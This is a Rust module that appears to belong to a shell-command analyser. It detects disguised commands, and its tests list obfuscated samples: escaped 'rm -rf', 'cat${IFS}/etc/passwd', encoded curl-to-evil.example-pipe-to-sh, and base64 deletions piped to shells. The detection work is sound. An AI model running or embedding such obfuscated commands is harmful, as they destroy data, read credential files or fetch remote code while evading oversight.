//! Ways of writing that hide what a text does: they change nothing in what is understood, and say something of whoever
//! writes so.

use crate::{
    syntax::Span,
    ui::printable::{Breaks, Shown, glyphs},
};

use super::{CommandLine, Disguise, EffectKind, Facts, Invocation, Program};

/// Words shorter than this are never taken for encoded data.
const SHORTEST: usize = 24;

/// What is longer is no program's name, but a text that holds many of them.
const LONGEST_NAME: u32 = 256;

/// Letters that are written as numbers, outside of `$'…'`, before it counts.
const NUMBERED: usize = 3;

const SHELLS: [&[u8]; 7] = [b"sh", b"bash", b"dash", b"zsh", b"ksh", b"fish", b"busybox"];

const INTERPRETERS: [&[u8]; 8] = [b"python", b"perl", b"ruby", b"node", b"php", b"deno", b"bun", b"pwsh"];

/// What interpreters call their decoders.
const DECODERS_IN_CODE: [&[u8]; 7] =
    [b"b64decode", b"unhexlify", b"fromhex", b"atob(", b"decode64", b"base64_decode", b"'base64'"];

/// Every disguise in a command line; one pass over a text that has none.
pub(super) fn find(line: &CommandLine, facts: &Facts) -> Vec<Disguise> {
    let mut found = Vec::new();
    match line {
        CommandLine::Shell { text, .. } => in_text(text, facts, &mut found),
        CommandLine::Wrapped(_) => in_text(&line.text(), facts, &mut found),
        CommandLine::Argv(words) => {
            for (word, span) in words.iter().zip(line.word_spans()) {
                Text { bytes: word, whole: Some(span) }.look(&mut found);
            }
        }
    }
    built(facts, &mut found);
    decoded(facts, &mut found);
    found
}

fn in_text(text: &[u8], facts: &Facts, found: &mut Vec<Disguise>) {
    Text { bytes: text, whole: None }.look(found);
    pieces(text, facts, found);
}

/// A text to look at; `whole` is its span where it is one word.
struct Text<'t> {
    bytes: &'t [u8],
    whole: Option<Span>,
}

impl Text<'_> {
    fn look(&self, found: &mut Vec<Disguise>) {
        let (mut strange, mut backslashes, mut dollars) = (false, 0, 0);
        let mut start = 0;
        for (at, byte) in self.bytes.iter().enumerate() {
            if byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=') {
                continue;
            }
            self.run(start, at, found);
            start = at + 1;
            match byte {
                b'\\' => backslashes += 1,
                b'$' => dollars += 1,
                b' '..=b'~' | b'\n' | b'\t' => {}
                _ => strange = true,
            }
        }
        self.run(start, self.bytes.len(), found);
        if strange {
            self.strange(found);
        }
        if backslashes > 0 {
            self.numbered(found);
        }
        if dollars > 0 {
            self.separators(found);
        }
    }

    fn note(&self, found: &mut Vec<Disguise>, why: &'static str, start: usize, end: usize) {
        let span = self.whole.unwrap_or(Span { start: offset(start), end: offset(end) });
        found.push(Disguise { why: why.into(), length: None, span });
    }

    /// A run of the letters of base64: hexadecimal digits, or upper and lower case and digits without many slashes.
    fn run(&self, start: usize, end: usize, found: &mut Vec<Disguise>) {
        if end - start < SHORTEST {
            return;
        }
        let run = self.bytes.get(start..end).unwrap_or_default();
        let any = |is: fn(&u8) -> bool| run.iter().any(is);
        let digits = any(u8::is_ascii_digit);
        let hexadecimal = run.iter().all(u8::is_ascii_hexdigit);
        let slashes = run.iter().filter(|byte| **byte == b'/').count();
        let mixed = any(u8::is_ascii_uppercase) && any(u8::is_ascii_lowercase) && slashes * 16 <= run.len();
        if digits && (hexadecimal || mixed) {
            self.note(found, "holds a long word that nobody can read", start, end);
            if let Some(last) = found.last_mut() {
                last.length = Some(offset(run.len()));
            }
        }
    }

    /// Characters that are not what they look like, or cannot be seen. Typographic dashes and quotes, and what joins
    /// pictures, deceive nobody.
    fn strange(&self, found: &mut Vec<Disguise>) {
        let deceives = |shown: Shown| match shown {
            Shown::Code(character) => {
                !matches!(character, '\u{2010}'..='\u{2027}' | '\u{fe0f}' | '\u{200d}' | '\u{1f3fb}'..='\u{1f3ff}')
            }
            Shown::Byte(byte) => byte < 0x80,
            _ => false,
        };
        let all = glyphs(self.bytes, Breaks::Keep);
        if let Some(glyph) = all.into_iter().find(|glyph| deceives(glyph.shown)) {
            self.note(found, "holds characters that are hidden or look like others", glyph.at, glyph.at + 1);
        }
    }

    /// `$'\x72m'`, `printf '\162\155\40'`.
    fn numbered(&self, found: &mut Vec<Disguise>) {
        let mut count = 0;
        let mut rest = 0;
        while let Some(at) = position(self.bytes, b"\\", rest) {
            let behind = self.bytes.get(at + 1..).unwrap_or_default();
            rest = at + if behind.starts_with(b"\\") { 2 } else { 1 };
            if !is_letter(behind) {
                continue;
            }
            count += 1;
            let before = self.bytes.get(..at).unwrap_or_default();
            if count >= NUMBERED || is_in_dollar_quotes(before) {
                return self.note(found, "writes letters as numbers", at, at + 2);
            }
        }
    }

    /// `cat${IFS}/etc/passwd`; to keep its value (`old=$IFS`) is nothing strange.
    fn separators(&self, found: &mut Vec<Disguise>) {
        for name in [&b"$IFS"[..], b"${IFS"] {
            let mut from = 0;
            while let Some(at) = position(self.bytes, name, from) {
                from = at + name.len();
                let before = self.bytes.get(..at).unwrap_or_default();
                let before = before.strip_suffix(b"\"").unwrap_or(before);
                let longer = self.bytes.get(from).is_some_and(|byte| byte.is_ascii_alphanumeric());
                let another = longer && name == b"$IFS";
                if !(another || before.ends_with(b"=")) {
                    return self.note(found, "puts the shell's separators in place of blanks", at, from);
                }
            }
        }
    }
}

/// Whether what stands behind a backslash is the number of a letter, digit, slash, blank or dash.
fn is_letter(behind: &[u8]) -> bool {
    let number = |digits: &[u8], radix| {
        let text = std::str::from_utf8(digits).ok()?;
        u32::from_str_radix(text, radix).ok().and_then(char::from_u32)
    };
    let run = |digits: &'static [u8], most: usize, from: usize| {
        let rest = behind.get(from..).unwrap_or_default();
        let length = rest.iter().take(most).take_while(|byte| digits.contains(byte)).count();
        rest.get(..length).filter(|digits| !digits.is_empty())
    };
    let letter = match behind.first() {
        Some(b'x') => run(HEXADECIMAL, 2, 1).and_then(|digits| number(digits, 16)),
        Some(b'u' | b'U') => run(HEXADECIMAL, 8, 1).and_then(|digits| number(digits, 16)),
        Some(b'0'..=b'7') => run(b"01234567", 4, 0).and_then(|digits| number(digits, 8)),
        _ => None,
    };
    letter.is_some_and(|letter| letter.is_ascii_alphanumeric() || matches!(letter, '/' | ' ' | '-' | '.'))
}

const HEXADECIMAL: &[u8] = b"0123456789abcdefABCDEF";

/// Whether the last quote that was opened is `$'`.
fn is_in_dollar_quotes(before: &[u8]) -> bool {
    before
        .iter()
        .rposition(|byte| *byte == b'\'')
        .is_some_and(|at| at > 0 && before.get(at - 1) == Some(&b'$'))
}

/// Names of programs that are put together from pieces: `c''at`, `c\at`, `$a$b`.
fn pieces(text: &[u8], facts: &Facts, found: &mut Vec<Disguise>) {
    for first in facts.invocations.iter().filter_map(|invocation| invocation.words.first()) {
        let span = first.span;
        if span.end.saturating_sub(span.start) > LONGEST_NAME {
            continue;
        }
        let Some(raw) = text.get(span.start as usize..span.end as usize) else { continue };
        if first.value.as_deref() != Some(raw) && is_in_pieces(raw, first.value.as_deref()) {
            found.push(Disguise {
                why: "puts a program's name together from pieces".into(),
                length: None,
                span,
            });
        }
    }
}

fn is_in_pieces(raw: &[u8], value: Option<&[u8]>) -> bool {
    let is_quote = |byte: &u8| matches!(byte, b'\'' | b'"');
    let whole = raw.strip_prefix(b"\\").unwrap_or(raw);
    let whole = match whole {
        [first, inner @ .., last] if first == last && is_quote(first) => inner,
        _ => whole,
    };
    let dollars = whole.iter().filter(|byte| **byte == b'$').count();
    if dollars > 0 {
        return dollars > 1 && !whole.iter().any(|byte| byte.is_ascii_whitespace() || *byte == b'/');
    }
    let plain: Vec<u8> = whole.iter().copied().filter(|byte| !is_quote(byte) && *byte != b'\\').collect();
    plain.len() < whole.len() && value == Some(&*plain)
}

/// Text that is put together and then run: `eval "$x"`, `sh -c "$x"`.
fn built(facts: &Facts, found: &mut Vec<Disguise>) {
    for invocation in &facts.invocations {
        let Some(name) = name(invocation) else { continue };
        let words = invocation.words.get(1..).unwrap_or_default();
        let text = if name == b"eval" {
            words
        } else if SHELLS.contains(&name) {
            let is_option = |word: &[u8]| word.starts_with(b"-") && word.ends_with(b"c");
            let option = words.iter().position(|word| word.value.as_deref().is_some_and(is_option));
            option.and_then(|at| words.get(at + 1..at + 2)).unwrap_or_default()
        } else {
            continue;
        };
        if let Some(word) = text.iter().find(|word| word.value.is_none()) {
            let why = "runs text that it puts together itself".into();
            found.push(Disguise { why, length: None, span: word.span });
        }
    }
}

/// Something is decoded, and something that nobody sees is run.
fn decoded(facts: &Facts, found: &mut Vec<Disguise>) {
    let runs = |invocation: &Invocation| {
        let executes = |effect: &super::Effect| effect.kind == EffectKind::Execute;
        invocation.opaque.is_some() || invocation.effects.iter().any(executes)
    };
    let Some(decoder) = facts.invocations.iter().find(|invocation| decodes(invocation)) else { return };
    if facts.invocations.iter().any(runs) {
        let why = "decodes something and runs what nobody sees".into();
        found.push(Disguise { why, length: None, span: decoder.span });
    }
}

fn decodes(invocation: &Invocation) -> bool {
    let words = || invocation.words.iter().skip(1).filter_map(|word| word.value.as_deref());
    let has = |letter: u8, long: &[u8]| {
        words().any(|word| {
            let short = word.starts_with(b"-") && !word.starts_with(b"--") && word.contains(&letter);
            short || word.len() > 3 && long.starts_with(word)
        })
    };
    match name(invocation) {
        Some(b"base64" | b"base32" | b"basenc" | b"gbase64") => {
            has(b'd', b"--decode") || has(b'D', b"--decode")
        }
        Some(b"xxd") => has(b'r', b"-revert"),
        Some(b"openssl") => words().any(|word| word == b"-d"),
        Some(b"uudecode" | b"rev") => true,
        Some(b"tr") => words().any(|word| word.eq_ignore_ascii_case(b"n-za-m") || word == b"N-ZA-Mn-za-m"),
        Some(name) if INTERPRETERS.iter().any(|known| name.starts_with(known)) => {
            words().any(|word| DECODERS_IN_CODE.iter().any(|decoder| position(word, decoder, 0).is_some()))
        }
        _ => false,
    }
}

fn name(invocation: &Invocation) -> Option<&[u8]> {
    match &invocation.program {
        Program::Builtin(name) | Program::Function(name) | Program::Elsewhere(name) => Some(name.as_bytes()),
        Program::File { name, .. } => Some(name.as_bytes()),
        Program::Nothing | Program::Unknown => None,
    }
}

fn position(text: &[u8], wanted: &[u8], from: usize) -> Option<usize> {
    memchr::memmem::find(text.get(from..)?, wanted).map(|at| at + from)
}

fn offset(length: usize) -> u32 {
    u32::try_from(length).unwrap_or(u32::MAX)
}

#[cfg(test)]
mod tests {
    use crate::{
        facts::{Catalog, CommandLine, analyse, test_world::TestWorld},
        syntax::Dialect,
    };

    const LETTERS: &str = "writes letters as numbers";
    const HIDDEN: &str = "holds characters that are hidden or look like others";
    const LONG: &str = "holds a long word that nobody can read";
    const IFS: &str = "puts the shell's separators in place of blanks";
    const PIECES: &str = "puts a program's name together from pieces";
    const BUILT: &str = "runs text that it puts together itself";
    const DECODED: &str = "decodes something and runs what nobody sees";

    fn found(line: &CommandLine) -> Vec<String> {
        let facts = analyse(line, &TestWorld::default(), &Catalog::built_in());
        let mut whys: Vec<String> = facts.disguises.iter().map(|disguise| disguise.why.to_string()).collect();
        whys.dedup();
        whys
    }

    fn shell(text: &str) -> CommandLine {
        let (options, arguments) = (Vec::new(), Vec::new());
        CommandLine::Shell { text: text.into(), dialect: Dialect::Bash, options, arguments }
    }

    #[test]
    fn every_disguise_is_seen() {
        for (text, expected) in [
            (r"$'\x72\x6d' -rf src", LETTERS),
            (r"$'\162m' -rf src", LETTERS),
            (r"printf '\x72\x6d\x20x' | sh", LETTERS),
            ("cat notes\u{200b}.txt", HIDDEN),
            ("c\u{430}t notes.txt", HIDDEN),
            ("echo a\u{202e}b", HIDDEN),
            ("echo \r", HIDDEN),
            ("echo Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3h8c2g=", LONG),
            ("echo 6375726c202d7320687474703a2f2f6576696c2e6578", LONG),
            ("cat${IFS}/etc/passwd", IFS),
            ("cat$IFS/etc/passwd", IFS),
            ("c''at a", PIECES),
            (r"c\at a", PIECES),
            ("\"c\"at a", PIECES),
            ("a=c; b=at; $a$b a", PIECES),
            ("eval \"$x\"", BUILT),
            ("eval \"$(ssh-agent)\"", BUILT),
            ("bash -c \"$x\"", BUILT),
            ("base64 -d <<< cm0gfi8uYmFzaF9wcm9maWxl | sh", DECODED),
            ("echo cm0gLXJmIH4= | base64 --decode | bash", DECODED),
            ("echo 726d | xxd -r -p | sh", DECODED),
            ("python3 -c 'import base64; exec(base64.b64decode(\"cm0=\"))'", DECODED),
        ] {
            assert!(
                found(&shell(text)).iter().any(|why| why == expected),
                "{text}: {:?}",
                found(&shell(text))
            );
        }
    }

    #[test]
    fn everyday_text_is_no_disguise() {
        for text in [
            "git commit -m 'größe — “fix” it… ⚠️ done'",
            r"printf '\x1b[31mred\x1b[0m\n'",
            r"grep -rn 'foo\.bar' src | sed 's/\//\\/g'",
            r"\ls -la",
            "'/usr/bin/git' status",
            "\"$HOME/bin/tool\" --help",
            "OLD=$IFS; IFS=, read -r a b",
            "while IFS= read -r l; do echo \"$l\"; done < f.txt",
            "git checkout 09fdfd9 && git log --oneline",
            "ls /home/user/project/src/components/navigation/sidebar/items/index",
            "bash -c 'ls -la'",
            "eval 'echo a'",
            "base64 -d notes.b64 > notes.txt",
            "docker exec db psql -c 'SELECT 1'",
            "echo \"$(date)\"",
            "make V=1 CFLAGS=-O2",
        ] {
            assert_eq!(found(&shell(text)), Vec::<String>::new(), "{text}");
        }
    }

    #[test]
    fn a_long_word_says_how_long_it_is_and_where() {
        let text = format!("echo {}1fA", "aB".repeat(50));
        let facts = analyse(&shell(&text), &TestWorld::default(), &Catalog::built_in());
        let disguise = &facts.disguises[0];
        assert_eq!((disguise.length, disguise.span.start, disguise.span.end), (Some(103), 5, 108));
    }

    #[test]
    fn words_of_an_argument_vector_are_looked_at_one_by_one() {
        let line = |words: &[&str]| CommandLine::Argv(words.iter().map(|word| (*word).into()).collect());
        assert_eq!(found(&line(&["cat", "a\u{200b}b"])), [HIDDEN]);
        assert_eq!(found(&line(&["cat", "a b"])), Vec::<String>::new());
        assert_eq!(found(&line(&["bash", "-c", "cat${IFS}a"])), [IFS]);
    }

    #[test]
    fn hostile_text_costs_no_more_than_its_length() {
        for text in
            ["\\".repeat(1 << 20), "$IFS=".repeat(1 << 18), "a''b;".repeat(1 << 18), "é".repeat(1 << 19)]
        {
            let start = std::time::Instant::now();
            let _ = super::find(&shell(&text), &crate::facts::Facts::default());
            assert!(start.elapsed() < std::time::Duration::from_secs(5));
        }
        let nested = format!("bash -c '{}'", "ls;".repeat(5000));
        let start = std::time::Instant::now();
        let _ = found(&shell(&nested));
        assert!(start.elapsed() < std::time::Duration::from_secs(5));
    }
}
